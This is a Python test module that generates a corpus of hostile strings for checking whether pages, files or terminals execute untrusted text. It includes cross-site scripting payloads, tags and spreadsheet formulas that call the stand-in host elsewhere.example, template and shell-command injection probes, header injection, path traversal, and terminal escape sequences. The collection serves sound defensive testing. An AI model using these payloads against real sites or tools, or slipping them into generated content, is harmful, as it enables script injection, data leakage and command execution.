"""Texts that would do something if any page, file or terminal took them for more than text.

Each is a *deed* (what it would do) put into a *place* (how it would get to be done). ``payloads.json`` beside this file
holds all of them, one a line, so that they can be read; ``python -m tests.hostile.corpus`` writes it anew.

What gets through is seen by three marks: a call of ``pwned()``, an element with the attribute ``pwned``, or a request
to ``elsewhere.example``.
"""

from __future__ import annotations

import json
from collections.abc import Iterable, Iterator
from itertools import product
from pathlib import Path
from typing import Final

FILE: Final = Path(__file__).with_name("payloads.json")
COUNT: Final = 500

CALLS: Final = ("pwned()", "top.pwned(1)", "globalThis['pwn'+'ed']``", "eval(atob('cHduZWQoKQ=='))")
ELSEWHERE: Final = ("http://elsewhere.example/x", "//elsewhere.example/y", "https:\\\\elsewhere.example\\z")

WAYS_OUT: Final = (
    "", "'>", '">', "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "</svg>", "</noscript>",
    "</template>", "</iframe>", "</pre></code>", "</option></select>", '"/>', "`>", "\x00\">", "\u2028'>", "&quot;>",
)  # fmt: skip
"""Ends of whatever the text may stand in."""

RUNS: Final = (
    "<script pwned>{call}</script>",
    "<ScRiPt pwned >{call}</sCrIpT >",
    "<script pwned\x0c>{call}//",
    "<img pwned src=x onerror={call}>",
    '<img/pwned/src="x"/onerror="{call}">',
    "<svg pwned onload={call}>",
    "<svg pwned><script>{call}</script></svg>",
    "<svg pwned><animate onbegin={call} attributeName=x dur=1s>",
    "<svg pwned><foreignObject><body onload={call}></foreignObject></svg>",
    "<svg pwned><a xlink:href='javascript:{call}'><text y=9>x</text></a></svg>",
    "<math pwned href='javascript:{call}'>x</math>",
    "<math pwned><mtext><table><mglyph><style><img src=x onerror={call}></style></mglyph></table></mtext></math>",
    "<body pwned onload={call}>",
    "<details pwned open ontoggle={call}>",
    "<input pwned autofocus onfocus={call}>",
    "<select pwned autofocus onfocus={call}>",
    "<video pwned><source onerror={call}></video>",
    "<audio pwned src=x onerror={call}>",
    "<marquee pwned onstart={call}>",
    "<iframe pwned srcdoc='<script>parent.{call}</script>'></iframe>",
    "<iframe pwned src='javascript:parent.{call}'></iframe>",
    "<object pwned data='javascript:{call}'></object>",
    "<embed pwned src='javascript:{call}'>",
    "<a pwned href='javascript:{call}'>x</a>",
    "<a pwned href='java\tscript:{call}'>x</a>",
    "<a pwned href='&#106;avascript&colon;{call}'>x</a>",
    "<a pwned href='data:text/html,<script>opener.{call}</script>'>x</a>",
    "<form pwned action='javascript:{call}'><button autofocus>x</button></form>",
    "<button pwned form=x formaction='javascript:{call}'>x</button>",
    "<template pwned><script>{call}</script></template>",
    "<style pwned>@keyframes x{{}}</style><p style='animation-name:x' onanimationstart={call}>",
    "<p pwned contenteditable onfocus={call} tabindex=0 autofocus>x</p>",
    "<x pwned onclick={call} style=position:fixed;inset:0>",
    "<xss pwned style='width:expression({call})'>",
)

REACHES: Final = (
    "<img pwned src='{url}'>",
    "<link pwned rel=stylesheet href='{url}'>",
    "<link pwned rel=prefetch href='{url}'>",
    "<link pwned rel=preload as=image href='{url}'>",
    "<link pwned rel=icon href='{url}'>",
    "<link pwned rel=preconnect href='{url}'>",
    "<LINK/pwned/rel=dns-prefetch href='{url}'>",
    '<iframe pwned srcdoc = "&#60;link rel=preconnect href={url}>"></iframe>',
    "<x:link xmlns:x='http://www.w3.org/1999/xhtml' pwned='' rel='preconnect' href='{url}'/>",
    "<meta pwned http-equiv=refresh content='0;url={url}'>",
    "<base pwned href='{url}'>",
    "<iframe pwned src='{url}'></iframe>",
    "<frameset pwned><frame src='{url}'></frameset>",
    "<object pwned data='{url}'></object>",
    "<embed pwned src='{url}'>",
    "<video pwned poster='{url}' src='{url}' autoplay></video>",
    "<track pwned src='{url}'>",
    "<script pwned src='{url}'></script>",
    "<style pwned>@import '{url}';body{{background:url({url})}}</style>",
    "<p pwned style='background:url({url})'>",
    "<svg pwned><image href='{url}'/><use href='{url}#x'/></svg>",
    "<form pwned action='{url}'><input name=x><button autofocus>x</button></form>",
    "<table pwned background='{url}'>",
    "![x]({url})",
    "[x]: {url}\n![x][x]",
    "<{url}>",
)

ATTRIBUTES: Final = (
    '" pwned onmouseover={call} autofocus onfocus={call} x="',
    "' pwned onmouseover={call} autofocus onfocus={call} x='",
    " pwned onmouseover={call} tabindex=0 autofocus onfocus={call} ",
    '" pwned style="position:fixed;inset:0" onclick="{call}',
    '" pwned srcdoc="<script>{call}</script>',
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    " \x01javascript:{call}",
    "java\nscript:{call}",
    "javascript://%0a{call}",
    "data:text/html,<script>{call}</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{call}'/>",
    "vbscript:{call}",
    "[x](javascript:{call})",
    "[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    "![x](javascript:{call})",
    '![x](x "onerror={call}")',
    "`</code><script pwned>{call}</script>`",
    "```html\n</code></pre><script pwned>{call}</script>\n```",
    "\\u003cscript pwned\\u003e{call}\\u003c/script\\u003e",
    "%3Cscript pwned%3E{call}%3C/script%3E",
    "&lt;script pwned&gt;{call}&lt;/script&gt;",
    "&#60;script pwned&#62;{call}&#60;/script&#62;",
    "+ADw-script pwned+AD4-{call}+ADw-/script+AD4-",
    "\uff1cscript pwned\uff1e{call}\uff1c/script\uff1e",
    "\u02c2script pwned\u02c3{call}",
    "\xc0\xbcscript pwned\xc0\xbe{call}",
    "';{call};//",
    '";{call};//',
    "${{{call}}}",
    '{{"__proto__": {{"pwned": "{call}"}}}}',
)

TEMPLATES: Final = (
    "{{7*7}}", "{{ self.__init__.__globals__ }}", "{% print 7*7 %}", "{# 7 #}{{7*'7'}}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "*{7*7}", "@(7*7)", "[[7*7]]", "{{constructor.constructor('pwned()')()}}", "{0.__class__}", "%(x)s%s%n", "$(id)",
    "`id`", "; id #", "| id", "&& id", "%0d%0aSet-Cookie:pwned=1", "{{config}}", "{%include '/etc/passwd'%}",
)  # fmt: skip

HEADERS: Final = (
    "x\r\nSet-Cookie: pwned=1", "x\nSet-Cookie: pwned=1", "x\r\n\r\n<script pwned>pwned()</script>",
    "x\r\nContent-Type: text/html\r\n\r\n<script pwned>pwned()</script>", "x\u560d\u560aSet-Cookie: pwned=1",
    "x\x85Location: //elsewhere.example", "x\r\ndata: {}\r\n\r\nevent: release\r\ndata: pwned", "x\n\nid: 99\nevent: end",
    'x"; filename="pwned.html', "x.html\x00.txt", "../../pwned", "..\\..\\pwned", "/etc/passwd", "CON", "x%00.html", "~/x",
)  # fmt: skip

TERMINALS: Final = (
    "\x1b[31mred\x1b[0m", "\x1b]0;pwned\x07", "\x1b]8;;javascript:pwned()\x07x\x1b]8;;\x07",
    "\x1b]8;;http://elsewhere.example/\x1b\\x\x1b]8;;\x1b\\", "\x1b]52;c;cHduZWQ=\x07", "\x1b[2J\x1b[H", "\x1b[6n", "\x1bc",
    "\x1b[38;2;0;0;0;url(//elsewhere.example)m<img pwned src=x onerror=pwned()>", "\x1b[1;999999999A", "\x1b[999999999C",
    "\x1b[31m<script pwned>pwned()</script>\x1b[0m", "\x9b31m<b pwned>", "\x1b]1337;File=inline=1:AAAA\x07",
    "\x1bP+q544e\x1b\\", "\x1b_G\x1b\\", "\r<script pwned>pwned()</script>", "a\x08\x08<b pwned>", "\x07\x0b\x0c", "\x1b[",
)  # fmt: skip

CELLS: Final = (
    "=HYPERLINK(\"http://elsewhere.example/?\"&A1,\"x\")", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "=WEBSERVICE(\"http://elsewhere.example/\")", "\t=1+1", "\r=1+1",
    "=IMPORTXML(\"http://elsewhere.example/\",\"//a\")", "\n=1+1", "\uff1d1+1", "a\";=1+1", "a,=1+1", ";=1+1",
)  # fmt: skip

LETTERS: Final = (
    "\u202egpj.exe", "\u2066abc\u2069", "a\u200bb\u200cc\u200dd", "\ufeffx", "\u2028\u2029", "\x00", "a\x00b", "\x7f\x80\x9f",
    "Z\u0351\u036b\u0343" * 20, "\U000e0041\U000e0042", "\u0430dmin", "\ufdfd" * 20, "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\ufffe\uffff", "x" * 3000, "\u0130\u0131\u017f\u1e9e", "A\u0300" * 100, " ", "\t\n\r", "\u3164", "null", "undefined", "NaN",
    "__proto__", "constructor", "toString", "-1", "1e999", "true", "page", "top", "jump", "offline", "output", "log",
)  # fmt: skip
"""Letters that turn, hide or pile up, and words that mean something to a program (also ids of our own elements)."""


def make() -> list[str]:
    """All payloads, each once, those of every family that fit."""
    families = (TEMPLATES, HEADERS, TERMINALS, CELLS, LETTERS, list(_filled(ATTRIBUTES)), list(_in_places()))
    return list(dict.fromkeys(text for family in families for text in family))[:COUNT]


def read() -> list[str]:
    found: list[str] = json.loads(FILE.read_text(encoding="utf-8"))
    return found


def _filled(forms: Iterable[str]) -> Iterator[str]:
    for n, form in enumerate(forms):
        yield form.format(call=CALLS[n % len(CALLS)])


def _in_places() -> Iterator[str]:
    """Every deed with every way out, taken so that the first hundreds have each of both."""
    deeds = [form.format(call=CALLS[n % len(CALLS)]) for n, form in enumerate(RUNS)]
    deeds += [form.format(url=ELSEWHERE[n % len(ELSEWHERE)]) for n, form in enumerate(REACHES)]
    for step, n in product(range(len(WAYS_OUT)), range(len(deeds))):
        yield WAYS_OUT[(n + step) % len(WAYS_OUT)] + deeds[n]


def write() -> None:
    lines = ",\n".join(json.dumps(each) for each in make())
    FILE.write_text(f"[\n{lines}\n]\n", encoding="utf-8")


if __name__ == "__main__":
    write()
